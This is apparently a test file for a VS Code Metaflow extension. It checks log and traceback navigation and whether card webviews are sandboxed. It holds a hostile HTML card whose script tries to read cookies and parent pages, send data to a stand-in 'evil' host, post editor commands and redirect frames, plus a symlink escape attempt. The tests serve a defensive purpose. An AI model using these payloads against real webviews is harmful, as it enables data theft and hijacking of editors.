// Logs of tasks and cards in real VS Code: what a task prints is followed, its traceback leads to the code, and a card can do nothing.

'use strict';
const assert = require('node:assert/strict');
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');
const { after } = require('node:test');
const { journey } = require('./lib/journey');
const { until } = require('./lib/until');

const test = journey('logs', { trusted: true, file: 'train_flow.py' });

/** Whatever a card sends ends up here. */
const heard = [];
const listener = http.createServer((request, response) => {
  heard.push(`${request.method} ${request.url}`);
  response.end('evil');
});
after(() => listener.close());

/** Tries all that a page may try, and writes down how it went. */
const hostile = (evil) => `<html><head><link rel="stylesheet" href="${evil}/style"></head><body>
<img src="${evil}/img"><iframe src="${evil}/frame"></iframe><form id="f" action="${evil}/form"></form>
<pre id="report">not run</pre>
<script>
const report = [];
const attempt = (name, act) => { try { report.push(name + ': ' + act()); } catch (error) { report.push(name + ': ' + error.name); } };
attempt('origin', () => self.origin);
attempt('api', () => typeof acquireVsCodeApi);
attempt('parent api', () => typeof parent.acquireVsCodeApi);
attempt('parent page', () => parent.document.title);
attempt('top page', () => top.document.title);
attempt('storage', () => typeof localStorage);
attempt('cookie', () => document.cookie);
attempt('window', () => String(window.open('${evil}/window')));
attempt('top', () => { top.location = '${evil}/top'; return 'assigned'; });
attempt('form', () => document.getElementById('f').submit());
attempt('beacon', () => navigator.sendBeacon('${evil}/beacon', 'x'));
for (const w of [parent, parent.parent, top]) {
  attempt('message', () => w.postMessage({ command: 'workbench.action.closeAllEditors', channel: 'execute-command', type: 'command' }, '*'));
}
attempt('socket', () => { new WebSocket('${evil.replace('http', 'ws')}/socket'); return 'made'; });
attempt('worker', () => { new Worker('data:text/javascript,fetch("${evil}/worker")'); return 'made'; });
fetch('${evil}/fetch').then(() => 'answered', (error) => error.name).then((end) => {
  report.push('fetch: ' + end);
  document.getElementById('report').textContent = report.join('\\n');
});
</script></body></html>`;

/** Leads its own frame away, by script and by mark-up. */
const away = (evil) => `<html><head><meta http-equiv="refresh" content="0;url=${evil}/refresh"></head><body>
<script>location.href = '${evil}/self';</script></body></html>`;

const source = `import base64
import sys

from metaflow import FlowSpec, card, current, step
from metaflow.cards import Image, Markdown, Table, VegaChart

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC"
CHART = {
    "data": {"values": [{"a": "A", "b": 28}, {"a": "B", "b": 55}]},
    "width": 200,
    "mark": "bar",
    "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
}


def divide(x):
    return 1 / x


class TalkFlow(FlowSpec):
    @card(type="blank", id="mine")
    @step
    def start(self):
        print("grüße on stdout")
        print("  and stderr", file=sys.stderr)
        page = current.card["mine"]
        page.append(Markdown("# Hello *card*"))
        page.append(Table([["left", "right"]]))
        page.append(Image(base64.b64decode(PNG), label="square"))
        page.append(VegaChart(CHART))
        self.next(self.report)

    @card(type="blank", id="hostile")
    @card(type="blank", id="away")
    @step
    def report(self):
        self.next(self.end)

    @step
    def end(self):
        divide(0)


if __name__ == "__main__":
    TalkFlow()
`;

test('the lens of a failed step leads to the log of its task, and the traceback to the code', async (session) => {
  const { workbench, launches } = session;
  fs.writeFileSync(path.join(session.workspace, 'talk_flow.py'), source);
  session.file = 'talk_flow.py';
  await workbench.openFile('talk_flow.py');
  await workbench.goToLine(session.line('class TalkFlow'));
  const launch = await launches.one('run', () => workbench.lenses.click('class TalkFlow', /Run flow/));
  await until('the run has failed', 120_000, () => launches.all().some(({ id, status }) => id === launch.id && status === 'failed'));
  await workbench.goToLine(session.line('def end'));
  await workbench.lenses.click('def end', /failed · ZeroDivisionError/);
  const terminal = '.terminal-wrapper.active .xterm-rows > div';
  await workbench.seeText('the end of the log', terminal, /end of the log/);
  await workbench.seeText('the exception', terminal, /^ZeroDivisionError: division by zero$/);
  const rows = await workbench.texts(terminal);
  assert.ok(!rows.some((row) => /\(pid \d+\)|grüße/.test(row)), rows.join('\n'));
  await workbench.shot('20-task-log');

  // The file is edited meanwhile: the link leads to where the line is now.
  await workbench.focusEditor();
  await workbench.page.keyboard.press('Control+Home');
  await workbench.page.keyboard.type('# one\n# two\n');
  await workbench.goToLine(1);
  const frame = workbench.page.locator(terminal).filter({ hasText: /talk_flow\.py", line \d+, in divide/ }).last();
  const wanted = session.line('return 1 / x') + 2;
  const at = workbench.page.locator('.statusbar-item', { hasText: new RegExp(`^\\s*Ln ${wanted}, Col 1\\s*$`) });
  await until('the link leads to the line', 60_000, async () => {
    const box = await frame.boundingBox();
    await workbench.page.mouse.move(box.x + 60, box.y + box.height / 2);
    await workbench.page.keyboard.down('Control');
    await workbench.page.mouse.move(box.x + 64, box.y + box.height / 2);
    await workbench.page.mouse.click(box.x + 64, box.y + box.height / 2);
    await workbench.page.keyboard.up('Control');
    return at.waitFor({ timeout: 5000 }).then(() => true, () => false);
  });
  await workbench.shot('21-traceback-link');
  await workbench.command('File: Revert File');
});

/** The folder of the cards of a step's only task. */
function cardsOf({ workspace }, step) {
  const runs = path.join(workspace, '.metaflow/mf.cards/TalkFlow/runs');
  const [run, ...more] = fs.readdirSync(runs);
  assert.deepEqual(more, []);
  const tasks = path.join(runs, run, 'steps', step, 'tasks');
  const [task] = fs.readdirSync(tasks);
  return path.join(tasks, task, 'cards');
}

/** A step may write whatever it likes where Metaflow keeps its card. */
function write(session, step, id, html) {
  const folder = cardsOf(session, step);
  const name = fs.readdirSync(folder).find((name) => name.includes(`-${id}-`));
  fs.writeFileSync(path.join(folder, name), html);
}

/** The page of the card that is shown. */
const shown = (workbench) => workbench.page.frameLocator('iframe.webview').frameLocator('#active-frame').frameLocator('iframe[title="Card"]');

test('a card of Metaflow shows as it is, from the lens', async (session) => {
  const { workbench } = session;
  await workbench.openFile('talk_flow.py');
  await workbench.goToLine(session.line('def start'));
  await workbench.lenses.click('def start', /▤ Card/);
  const page = shown(workbench);
  await page.getByRole('heading', { name: 'Hello card' }).waitFor();
  await page.getByText('right', { exact: true }).first().waitFor();
  await page.locator('img[src^="data:image/png"]').first().waitFor();
  // Vega compiles its expressions: the chart is there only if that is allowed.
  await page.locator('svg.marks, canvas.marks').first().waitFor();
  await workbench.shot('22-card');
});

test('a hostile card can do nothing', async (session) => {
  const { workbench } = session;
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const evil = `http://127.0.0.1:${listener.address().port}`;
  write(session, 'report', 'hostile', hostile(evil));
  write(session, 'report', 'away', away(evil));
  await workbench.openFile('talk_flow.py');
  await workbench.showMetaflow();
  await workbench.expand(/^report/);
  const before = workbench.page.url();
  await workbench.clickRow(/^hostile/);
  const report = shown(workbench).locator('#report');
  await report.filter({ hasText: /fetch: / }).waitFor();
  const told = (await report.innerText()).split('\n');
  await workbench.shot('23-hostile-card');
  for (const line of [
    'origin: null',
    'api: undefined',
    'parent api: SecurityError',
    'parent page: SecurityError',
    'top page: SecurityError',
    'storage: SecurityError',
    'cookie: SecurityError',
    'window: null',
    'fetch: TypeError',
  ]) {
    assert.ok(told.includes(line), `${line} is not in\n${told.join('\n')}`);
  }
  await workbench.clickRow(/^away/);
  await workbench.page.locator('.tab.active', { hasText: 'away' }).waitFor();
  // A message that did something would have done it by the time this one is answered.
  await workbench.command('Notifications: Clear All Notifications');
  await workbench.shot('24-card-that-leads-away');
  assert.equal(workbench.page.url(), before);
  assert.ok(await workbench.page.locator('.tab', { hasText: 'talk_flow.py' }).first().isVisible());
  await fetch(`${evil}/proof`);
  assert.deepEqual(heard, ['GET /proof']);
  assert.deepEqual(workbench.foreign, []);
});

test('a card that leads out of the store is refused', async (session) => {
  const { workbench } = session;
  const secret = path.join(session.dir, 'secret.html');
  fs.writeFileSync(secret, 'secret');
  fs.symlinkSync(secret, path.join(cardsOf(session, 'start'), 'blank-stolen-1.html'));
  await workbench.goToLine(session.line('def start'));
  await workbench.lenses.click('def start', /▤ Card/);
  await workbench.page.locator('.quick-input-widget .monaco-list-row', { hasText: 'stolen' }).click();
  await workbench.page.locator('.notification-list-item', { hasText: /leads out of/ }).first().waitFor();
});
